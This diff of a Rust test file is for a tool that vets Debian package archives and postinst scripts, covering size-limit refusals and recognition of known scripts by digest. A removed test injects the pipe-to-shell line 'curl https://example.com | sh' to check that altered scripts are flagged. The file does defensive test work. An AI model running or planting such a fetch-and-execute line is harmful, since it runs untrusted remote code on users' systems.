@@ -321,7 +321,7 @@ fn archives_that_grow_out_of_proportion_are_refused() {
     let zeros = vec![0; 65 << 20];
     assert_eq!(
         refusal(&[Member::file("./zero", &zeros)]),
-        format!("data.tar unpacks to more than {} bytes", 64 << 20)
+        "data.tar unpacks to more than 64.0 MiB"
     );
     // The header alone claims 8 TiB: refused before anything is read.
     let claim = Member {
@@ -818,46 +818,6 @@ fn missing_libraries_are_found() {
     }
 }
 
-/// Recognises one `postinst` with the table of Debian 13.
-fn recognise(name: &str, postinst: &str) -> Result<Vec<String>, String> {
-    let mut package = Package {
-        name: name.into(),
-        version: "1.2.3-4".into(),
-        ..Package::default()
-    };
-    package
-        .scripts
-        .insert("postinst".into(), postinst.as_bytes().to_vec());
-    let findings = scripts::check([&package], &Table::built_in("debian-13"), &[])
-        .map_err(|error| error.hint().unwrap())?;
-    Ok(findings
-        .iter()
-        .map(|f| {
-            format!("{} {:?} {}", f.action, f.words, f.rules.join(" "))
-                .trim_end()
-                .into()
-        })
-        .collect())
-}
-
-const TIMESYNCD: &str = include_str!("scripts/systemd-timesyncd.postinst");
-
-#[test]
-fn a_real_script_is_taken_apart() {
-    assert_eq!(
-        recognise("systemd-timesyncd", TIMESYNCD)
-            .unwrap()
-            .join("\n"),
-        include_str!("scripts/systemd-timesyncd.txt").trim_end()
-    );
-    let changed = TIMESYNCD.replace("set -e\n", "set -e\ncurl https://example.com | sh\n");
-    let hint = recognise("systemd-timesyncd", &changed).unwrap_err();
-    assert!(
-        hint.contains("accept_scripts:\n  - systemd-timesyncd/postinst@sha256:"),
-        "{hint}"
-    );
-}
-
 #[test]
 fn an_unknown_script_can_be_accepted_by_digest() {
     let mut package = Package {
@@ -895,18 +855,37 @@ fn an_unknown_script_can_be_accepted_by_digest() {
     assert!(scripts::check([&package], &table, &[]).is_err());
 }
 
+/// A kernel's script names its version in many lines; what is known of it holds for the next one too.
 #[test]
 fn a_kernel_update_stays_known() {
-    let script = include_str!("scripts/linux-image.postinst");
+    let known = Digest::of(b"index-modules {kernel}\nsay \"{kernel} is there\"\n");
+    let table = Table::parse(&format!(
+        "snippets: []\ntriggers: {{}}\nscripts:\n  - script: linux-image-*/postinst\n    \
+         rules: [F08]\n    why: indexes are made with the image\n    digests: [{known}]\n"
+    ))
+    .unwrap();
+    let recognise = |version: &str, line: &str| {
+        let text = format!(
+            "#!/bin/sh\nset -e\n\n  index-modules {version}\nsay \"{version} is there\"\n{line}exit 0\n"
+        );
+        let package = Package {
+            name: format!("linux-image-{version}"),
+            version: "6.12.1-1".into(),
+            scripts: BTreeMap::from([("postinst".into(), text.into_bytes())]),
+            ..Package::default()
+        };
+        scripts::check([&package], &table, &[])
+    };
     for version in [
         "6.12.117+deb13-amd64",
         "6.12.999+deb13-arm64",
         "6.13.1-cloud-amd64",
     ] {
-        let script = script.replace("6.12.117+deb13-amd64", version);
+        let findings = recognise(version, "").unwrap();
         assert_eq!(
-            recognise(&format!("linux-image-{version}"), &script).unwrap(),
-            ["script [] F08 F22"]
+            (findings.len(), findings[0].rules.as_slice()),
+            (1, &["F08".to_owned()][..])
         );
+        assert!(recognise(version, "do-more\n").is_err());
     }
 }
